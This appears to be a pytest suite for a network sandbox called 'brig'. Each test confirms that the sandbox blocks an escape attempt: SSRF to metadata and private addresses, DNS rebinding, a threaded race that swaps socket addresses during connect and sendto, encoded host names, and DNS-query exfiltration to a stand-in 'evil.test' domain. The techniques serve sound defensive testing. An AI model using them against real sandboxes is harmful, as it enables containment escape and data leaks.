# SPDX-License-Identifier: Apache-2.0
"""T1 to T14 with a gate: each attack beside a control that shows that the path works."""

import os
import time

import pytest

BRIG = os.environ.get("BRIG", "build/brig")

SOCKET = """
import socket
for host, port in {!r}:
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"ping")
        print(s.recv(100).decode() or "closed")
    except OSError as error:
        print(type(error).__name__)
"""


def connect(run, targets, *rules, **more):
    return run(SOCKET.format(targets), *rules, **more)


@pytest.mark.parametrize("name", [
    "private.test", "meta.test", "loop.test", "zero.test", "mapped.test", "nat64.test",
    "sixtofour.test", "linklocal.test", "ula.test", "own.test"])
def test_names_that_stand_for_private_addresses(run, world, name):
    result = connect(run, [(name, 7000)], "*:7000")
    assert result["stdout"].strip() in ("ConnectionResetError", "closed"), result
    assert [entry["verdict"] for entry in result["network"]] == ["refused_address"]
    assert world.visits()[0] == []


def test_local_rule_opens_private_but_never_metadata(run, world):
    assert connect(run, [("private.test", 7000)], "local:private.test:7000")["stdout"] == "ping\n"
    for rule in ("local:meta.test:7000", "local:*:7000"):
        result = connect(run, [("meta.test", 7000)], rule)
        assert result["network"][0]["verdict"] == "refused_address", result
    result = connect(run, [("169.254.169.254", 7000)], "local:169.254.0.0/16:7000")
    assert result["network"][0]["verdict"] == "refused_address", result
    assert len(world.visits()[0]) == 1
    # The exact address, listed by the operator.
    result = connect(run, [("169.254.169.254", 7000)], "local:169.254.169.254:7000")
    assert result["stdout"] == "ping\n"


def test_t2_addresses_without_a_rule(run, world):
    targets = [("93.184.216.34", 80), ("192.168.7.7", 80), ("169.254.169.254", 80),
               ("10.77.0.2", 8099), ("2606:2800:220:1::34", 80), ("fd77::1", 80)]
    result = connect(run, targets, "other.test")
    assert set(result["stdout"].split()) == {"OSError"}, result["stdout"]
    assert world.visits()[0] == []


def test_made_up_addresses_mean_nothing_of_themselves(run, world):
    targets = [("198.18.0.1", 80), ("198.18.7.7", 80), ("198.19.255.255", 80), ("127.0.0.1", 80),
               ("::1", 80), ("127.0.0.53", 80)]
    result = connect(run, targets, "other.test")
    assert set(result["stdout"].split()) <= {"ConnectionResetError", "closed"}
    assert {entry["verdict"] for entry in result["network"]} == {"refused_address"}
    assert world.visits()[0] == []


def test_range_does_not_open_private_addresses(run, world):
    result = connect(run, [("192.168.7.7", 7000), ("10.77.0.1", 7000), ("127.0.0.1", 7000)],
                     "0.0.0.0/0:7000", "[::]/0:7000")
    assert set(result["stdout"].split()) <= {"ConnectionResetError", "closed"}
    assert world.visits()[0] == []
    assert connect(run, [("93.184.216.34", 7000)], "0.0.0.0/0:7000")["stdout"] == "ping\n"


def test_t11_rebinding(run, world):
    """Public first, private from then on: the connection goes to the checked address,
    or nowhere."""
    world.name("rebind.test", [["93.184.216.34"], ["192.168.7.7"]])
    result = connect(run, [("rebind.test", 7000)] * 3, "rebind.test:7000")
    assert result["stdout"].split()[0] == "ping"
    assert sorted(entry["verdict"] for entry in result["network"]) == [
        "allowed", "refused_address", "refused_address"]
    visits, asked = world.visits()
    assert [visit[0] for visit in visits] == ["::ffff:93.184.216.34"]
    # One query of each type for each connection: no query is repeated.
    assert asked == [["rebind.test", 1], ["rebind.test", 28]] * 3
    world.name("rebind.test", [["192.168.7.7"], ["93.184.216.34"]])
    result = connect(run, [("rebind.test", 7000)], "rebind.test:7000")
    assert world.visits()[0] == []


def test_mixed_answers_use_the_public_one(run, world):
    assert connect(run, [("mixed.test", 7000)], "mixed.test:7000")["stdout"] == "ping\n"
    assert [visit[0] for visit in world.visits()[0]] == ["::ffff:93.184.216.34"]


def test_t9_address_flipped_during_connect(run, world):
    """There is nothing to exchange: the kernel that reads the address also routes it.

    Which of the two a call reaches, and whether it gets a refusal or a reset, is random. Certain
    are the result for each address by itself, and that only the allowed host is ever reached.
    """
    code = """
import ctypes, itertools, socket, sys, threading, struct
libc = ctypes.CDLL(None, use_errno=True)
good = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 7000) + socket.inet_aton(
    socket.gethostbyname("public.test")) + bytes(8)
bad = good[:4] + socket.inet_aton("192.168.7.7") + bytes(8)
def connect(address):
    with socket.socket() as s:
        r = libc.connect(s.fileno(), address, 16)
        return "connected" if r == 0 else "errno %d" % ctypes.get_errno()
print(connect(good), connect(bad))
# The gate need not serve a connection that is closed at once: this one stays open.
kept = socket.create_connection(("public.test", 7000))
address = ctypes.create_string_buffer(good, 16)
stop = False
def flip():
    for value in itertools.cycle((bad, good)):
        address.raw = value
        if stop:
            break
sys.setswitchinterval(1e-6)
threading.Thread(target=flip, daemon=True).start()
for _ in range(400):
    connect(address)
stop = True
"""
    result = run(code, "public.test:7000")
    assert result["stdout"] == "connected errno 101\n", result
    visited, end = set(), time.monotonic() + 20
    while not visited and time.monotonic() < end:  # the host records its connections a bit later
        visited |= {visit[0] for visit in world.visits()[0]}
    assert visited == {"::ffff:93.184.216.34"}


def test_t9_address_flipped_during_sendto(run, world):
    """The other calls with an address: sendto and sendmsg, which may also connect."""
    code = """
import ctypes, itertools, socket, struct, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.sendto.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p,
                        ctypes.c_int]
good = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 7000) + socket.inet_aton(
    socket.gethostbyname("public.test")) + bytes(8)
address = ctypes.create_string_buffer(good, 16)
stop = False
def flip():
    for other in itertools.cycle(("192.168.7.7", "127.0.0.1", "169.254.169.254", None)):
        address.raw = good if other is None else good[:4] + socket.inet_aton(other) + bytes(8)
        if stop:
            break
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_size", ctypes.c_uint), ("parts", ctypes.c_void_p),
                ("parts_count", ctypes.c_size_t), ("control", ctypes.c_void_p),
                ("control_size", ctypes.c_size_t), ("flags", ctypes.c_int)]
vector = Vector(b"leak", 4)
message = Message(ctypes.addressof(address), 16, ctypes.addressof(vector), 1, None, 0, 0)
sys.setswitchinterval(1e-6)
threading.Thread(target=flip, daemon=True).start()
FASTOPEN = 0x20000000
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    flags = FASTOPEN if kind == socket.SOCK_STREAM else 0
    for i in range(400):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        if i % 2:
            libc.sendto(s.fileno(), b"leak", 4, flags, address, 16)
        else:
            libc.sendmsg(s.fileno(), ctypes.byref(message), flags)
        s.close()
stop = True
print("done")
"""
    result = run(code, "public.test:7000")
    assert result["stdout"] == "done\n", result
    assert {visit[0] for visit in world.visits()[0]} <= {"::ffff:93.184.216.34"}


@pytest.mark.parametrize("host", [
    "public.test%2eevil.test", "user@public.test", "public.test.evil",
    "evil-public.test", "xpublic.test", "2130706433", "0x7f.1", "0177.0.0.1", "127.1",
    "p\u00fcblic.test", "public.test/", "[public.test]", "-public.test"])
def test_t10_odd_names(run, world, host):
    code = f"""
import socket
try:
    s = socket.create_connection(({host!r}, 7000), timeout=5)
    s.sendall(b"ping")
    print(s.recv(10))
except (OSError, ValueError, UnicodeError) as error:
    print("refused", type(error).__name__)
"""
    result = run(code, "public.test:7000")
    assert result["stdout"].startswith("refused") or result["stdout"] == "b''\n", result
    visits, asked = world.visits()
    assert visits == [] and asked == []


@pytest.mark.parametrize("rule", [
    "", "public.test:", "public.test:0", "public.test:65536", "public.test:80-", "http://x.test",
    "*.", "*x.test", "a.*.test", "local:", "10.0.0.0/33", "10.0.0.1/8", "0x7f.1", "127.1",
    "user@public.test", "public.test/24", "::1", "[::1", "p\u00fcblic.test", "a..test", "local:80"])
def test_t12_malformed_rules_refuse_the_start(run, rule):
    result = run("print(1)", rule)
    assert result["error"]["code"] == "input" and "HOST" in result["error"]["remedy"], result


def test_t7_no_question_leaves(run, world):
    code = """
import socket, struct
def ask(name, kind, server, tcp=False, classes=1):
    query = b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    for label in name.split("."):
        query += bytes([len(label)]) + label.encode()
    query += b"\\0" + struct.pack(">HH", kind, classes)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.connect((server, 53))
        s.sendall((struct.pack(">H", len(query)) if tcp else b"") + query)
        data = s.recv(600)[2 if tcp else 0:]
        return data[3] & 15, struct.unpack(">H", data[6:8])[0]
    except OSError as error:
        return type(error).__name__
print(ask("public.test", 1, "127.0.0.53"), ask("public.test", 1, "127.0.0.53", tcp=True))
print([ask(n, t, "127.0.0.53") for n, t in
       [("secret-data.evil.test", 1), ("evil.test", 16), ("public.test", 16), ("public.test", 28),
        ("public.test", 255), ("x.public.test", 1), ("public.test\\0x", 1), ("public.te st", 1),
        ("*.test", 1), ("*", 1)]], ask("public.test", 1, "127.0.0.53", classes=3))
print([ask("public.test", 1, s) for s in ("10.77.0.1", "93.184.216.34", "198.18.0.1")])
"""
    result = run(code, "public.test:80")
    lines = result["stdout"].splitlines()
    assert lines[0] == "(0, 1) (0, 1)"
    assert lines[1] == "[(3, 0), (3, 0), (0, 0), (0, 0), (0, 0), (3, 0), (3, 0), (3, 0), (3, 0), (3, 0)] (3, 0)"
    assert "(" not in lines[2].strip("[]").replace("'", ""), lines[2]
    assert world.visits() == ([], [])
    assert {"secret-data.evil.test", "evil.test", "x.public.test"} == {
        entry["host"] for entry in result["network"] if entry["verdict"] == "refused_name"}


def test_udp_icmp_and_raw_do_not_leave(run, world):
    code = """
import socket
for make in ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
             "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
             "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)",
             "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
             "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)"):
    try:
        s = eval(make)
        s.sendto(b"leak", ("93.184.216.34", 5353))
        print("sent")
    except OSError as error:
        print(error.errno)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"leak", (socket.gethostbyname("public.test"), 5353))
    print("sent inside")
except OSError as error:
    print(error.errno)
"""
    result = run(code, "public.test:443,5353", "93.184.216.0/24:5353")
    assert len(result["stdout"].splitlines()) == 6
    assert world.visits()[0] == []


def test_t4_t5_families_with_a_gate(run, world):
    """A network allows no other kinds of sockets, nor access to the host's tables."""
    code = """
import socket
for family, kind, protocol in ((16, 3, 0), (16, 3, 15), (16, 3, 9), (16, 3, 12), (16, 3, 4), (16, 3, 16),
                               (17, 3, 3), (40, 1, 0), (38, 5, 0), (44, 3, 0), (2, 3, 1), (10, 3, 58),
                               (2, 1, 132), (2, 1, 262)):
    try:
        socket.socket(family, kind, protocol)
        print("made", family, kind, protocol)
    except OSError:
        pass
print(socket.if_nametoindex("lo"))
s = socket.socket()
for level, option, value in ((6, 31, b"tls"), (0, 35, bytes(8)), (0, 64, bytes(40)), (1, 25, b"lo"),
                             (1, 36, bytes(4))):
    try:
        s.setsockopt(level, option, value)
        print("set", level, option)
    except OSError:
        pass
"""
    result = run(code, "0.0.0.0/0:1-20", "*:443")
    assert result["stdout"] == "1\n", result
    assert world.visits()[0] == []


def test_t6_nothing_leaves_with_a_gate(run, world):
    """Multicast, broadcast and link-local, where the rules are as wide as possible."""
    code = """
import socket
targets = ("224.0.0.251", "239.1.1.1", "255.255.255.255", "10.77.0.255", "169.254.1.1", "10.77.0.1",
           "ff02::fb", "ff05::2", "fe80::1", "fe80::1%lo", "fd77::1", "fd77::2", "::", "0.0.0.0")
for target in targets:
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(family, kind)
        s.settimeout(3)
        try:
            if kind == socket.SOCK_DGRAM and family == socket.AF_INET:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.connect((target, 5353))
            s.sendall(b"leak")
            if kind == socket.SOCK_STREAM and s.recv(10):
                print("reached", target)
        except OSError:
            pass
print("done")
"""
    result = run(code, "0.0.0.0/0:5353", "[::]/0:5353", "*:5353")
    assert result["stdout"] == "done\n", result
    assert world.visits()[0] == []
    assert "allowed" not in [entry["verdict"] for entry in result["network"]], result["network"]


T3 = """
import os, socket, subprocess, sys, tempfile, threading
brig, code = sys.argv[1:]
directory = tempfile.mkdtemp(dir="/tmp")
os.chmod(directory, 0o777)
places = ["@brig-test-gate", directory + "/s"]
def serve(server):
    while True:
        server.accept()
for place in places:
    server = socket.socket(socket.AF_UNIX)
    server.bind(place.replace("@", chr(0)))
    server.listen()
    threading.Thread(target=serve, args=(server,), daemon=True).start()
for line in ([brig, "run", "--net", "public.test", "-c", code, "--", *places],
             ["/usr/bin/python3", "-c", code, *places]):
    print(subprocess.run(line, capture_output=True, text=True).stdout.split(), flush=True)
os.unlink(directory + "/s")
os.rmdir(directory)
"""
T3_CLIENT = """
import socket, sys
for place in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(place.replace("@", chr(0)))
        print("connected")
    except OSError as error:
        print(type(error).__name__)
"""


def test_t3_sockets_of_the_host(world):
    """Abstract ones and those with a path, beside a gate; the same code reaches them bare."""
    done = world.command("/usr/bin/python3", "-c", T3, BRIG, T3_CLIENT)
    inside, bare = done["stdout"].splitlines()
    assert "connected" not in inside and inside.count("Error") == 2
    assert bare == "['connected', 'connected']"


def test_cells_do_not_reach_each_other(run, world):
    """The synthetic addresses of one cell are its own; servers in it are not reachable
    for others."""
    code = """
import socket
s = socket.create_server(("0.0.0.0", 9099))
print(socket.gethostbyname("public.test"), flush=True)
s.settimeout(3)
try:
    s.accept()
    print("visited")
except TimeoutError:
    print("alone")
"""
    other = SOCKET.format([("198.18.0.1", 9099), ("10.77.0.2", 9099), ("127.0.0.1", 9099)])
    script = f"""
import subprocess, sys
brig = {BRIG!r}
a = subprocess.Popen([brig, "run", "--net", "public.test", "-c", {code!r}], stdout=subprocess.PIPE,
                     text=True)
print(a.stdout.readline().strip(), flush=True)
import socket
for address in ("127.0.0.1", "198.18.0.1", "10.77.0.2", "::1"):
    try:
        socket.create_connection((address, 9099), timeout=0.2)
        print("reached from the host")
    except OSError:
        pass
b = subprocess.run([brig, "run", "--net", "public.test:80,9099", "-c", {other!r}],
                   capture_output=True, text=True)
print(b.stdout.split(), a.communicate()[0].split())
"""
    done = world.command("/usr/bin/python3", "-c", script)
    first, second = done["stdout"].splitlines()
    assert first == "198.18.0.1"
    assert "ping" not in second and second.endswith("['alone']"), done


def test_the_gates_ports_cannot_be_taken(run):
    code = """
import socket
for address in ("0.0.0.0", "127.0.0.1", "198.18.0.1", "::"):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((address, 7000)); s.listen()
        print("taken")
    except OSError as error:
        print(error.errno)
"""
    result = run(code, "public.test:7000")
    assert "taken" not in result["stdout"], result


def test_nothing_is_left_behind(run, world):
    run("import socket; socket.create_connection(('public.test', 7000))", "public.test:7000")
    done = world.command("/bin/sh", "-c", "grep -l brig-gate /proc/[0-9]*/comm 2>/dev/null | wc -l")
    mine = done["stdout"].strip()
    assert mine == "0" or int(mine) < 3, done
